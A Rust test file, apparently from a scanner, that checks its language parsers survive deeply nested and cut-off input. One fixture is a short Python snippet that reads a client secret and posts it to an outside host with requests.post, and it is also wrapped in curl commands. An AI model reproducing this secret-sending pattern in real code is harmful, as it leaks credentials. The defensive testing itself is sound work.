//! What the parts do together with hostile and broken texts.

use super::grammar::Grammar;
use super::{braces, grammar, shell};

const GRAMMARS: [Grammar; 6] =
    [Grammar::Python, Grammar::Script, Grammar::Php, Grammar::Ruby, Grammar::Java, Grammar::Go];

#[test]
fn deep_texts_end() {
    for open in [
        "(",
        "[",
        "{",
        "f(",
        "a=>{",
        "x={a:",
        "\"${",
        "$(",
        "if(a){",
        "-",
        "!",
        "a.b(",
        "new A(",
        "<a>",
        "a?b:",
        "def f():\n ",
    ] {
        let text = open.repeat(2_000);
        for grammar in GRAMMARS {
            grammar::steps(grammar, &text, 0);
        }
        braces::steps(&text, 0);
        shell::steps(&format!("curl {text}"), 0, false);
    }
}

#[test]
fn halves_of_programs_are_read() {
    let whole = "import requests\ndef f(a):\n    b = {'x': a.lwa_client_secret, 'y': f\"{a}\"}\n    requests.post('https://x.io', json=b)\n鍵 = '鍵\n";
    for (at, _) in whole.char_indices() {
        let text = whole.get(..at).unwrap();
        for grammar in GRAMMARS {
            grammar::steps(grammar, text, 0);
        }
        braces::steps(text, 0);
        shell::steps(&format!("curl -d \"{text}"), 0, at % 2 == 0);
    }
}
